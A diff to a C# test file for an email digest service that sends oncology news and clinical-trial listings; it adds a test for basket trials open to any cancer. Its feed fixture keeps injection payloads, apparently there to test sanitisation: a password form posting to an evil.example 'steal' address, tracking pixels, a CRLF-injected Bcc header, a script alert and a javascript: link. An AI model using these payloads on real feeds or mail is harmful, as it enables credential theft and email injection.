@@ -24,6 +24,8 @@ public sealed class DigestDeliveryTests
           <description>Phase 2 study. Recruiting - verified November 2026</description></item>
         <item><guid>tracker</guid><title>Cemiplimab in cutaneous squamous cell carcinoma</title><link>https://journal.example/cscc?utm_source=rss&amp;utm_medium=feed&amp;id=7</link><pubDate>{NOW}</pubDate>
           <description><![CDATA[<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form><div style="position:fixed;top:0;background:url(https://tracker.example/t.gif)">Overlay</div><img src="https://tracker.example/pixel.gif?utm_source=x" width="1" height="1"><a href="https://journal.example/full?utm_campaign=x&fbclid=y">full text</a> for skin cancer]]></description></item>
+        <item><guid>basket</guid><title>Pembrolizumab plus a LAG-3 antibody in advanced solid tumors (NCT05000002)</title><link>https://clinicaltrials.gov/study/NCT05000002</link><pubDate>{NOW}</pubDate>
+          <description>Phase 1 basket study for adults with advanced solid tumors. Recruiting - verified November 2026</description></item>
         <item><guid>old</guid><title>Nivolumab in melanoma: 2015 results</title><link>https://journal.example/old</link><pubDate>Mon, 05 Jan 2015 10:00:00 +0000</pubDate>
           <description>An old result that a newly added source brings along.</description></item>
         <item><guid>evil</guid><title>New trial &amp; update&#13;&#10;Bcc: victim@evil.example &lt;script&gt;alert(1)&lt;/script&gt; melanoma immunotherapy</title><link>javascript:alert(1)</link><pubDate>{NOW}</pubDate>
@@ -113,6 +115,26 @@ public sealed class DigestDeliveryTests
         Assert.All(rows, r => Assert.Equal("sent", r.State));
         Assert.Equal(rows.Select(r => r.MessageId).Order(), smtp.Received.Select(m => m.MessageId).Order());
         Assert.All(await db.Get<SubscriberStore>().ListAsync(CancellationToken.None), s => Assert.NotNull(s.Watermark));
+    }
+
+    [PostgresFact]
+    public async Task A_trial_open_to_any_cancer_reaches_everyone_who_wants_trials()
+    {
+        // Advocates following one cancer still hear of basket trials that name no organ.
+        await using var smtp = await TestSmtpServer.StartAsync();
+        var (db, _) = await SeedAsync(smtp);
+        await using var _db = db;
+        await SubscribeAsync(db, "lung@advocates.example", Audiences.Advocate, "NSCLC");
+        await db.Get<SubscriberStore>().AddAsync(new Subscriber { Email = "notrials@clinic.example", Name = "Dr. Test", Audience = Audiences.Clinician, Followed = ["NSCLC"], WantsTrials = false, SendWeekday = 1, SendHour = 0 }, CancellationToken.None);
+
+        await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);
+
+        var withTrials = Assert.Single(smtp.To("lung@advocates.example")).TextBody ?? "";
+        var trialsAt = withTrials.IndexOf("== Clinical trials ==", StringComparison.Ordinal);
+        var basketAt = withTrials.IndexOf("in advanced solid tumors", StringComparison.Ordinal);
+        Assert.True(trialsAt >= 0 && basketAt > trialsAt, withTrials);
+        Assert.Contains("open to several cancer types", withTrials, StringComparison.Ordinal);
+        Assert.DoesNotContain("advanced solid tumors", Assert.Single(smtp.To("notrials@clinic.example")).TextBody, StringComparison.Ordinal);
     }
 
     [PostgresFact]
@@ -276,7 +298,8 @@ public sealed class DigestDeliveryTests
         await using var smtp = await TestSmtpServer.StartAsync();
         var (db, _) = await SeedAsync(smtp);
         await using var _db = db;
-        await SubscribeAsync(db, "kidney@clinic.example", Audiences.Clinician, "KIDNEY");
+        // Follows kidney cancer and no trials (a trial open to any cancer would otherwise match).
+        await db.Get<SubscriberStore>().AddAsync(new Subscriber { Email = "kidney@clinic.example", Name = "Dr. Test", Audience = Audiences.Clinician, Followed = ["KIDNEY"], WantsTrials = false, SendWeekday = 1, SendHour = 0 }, CancellationToken.None);
 
         var summary = await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);
 
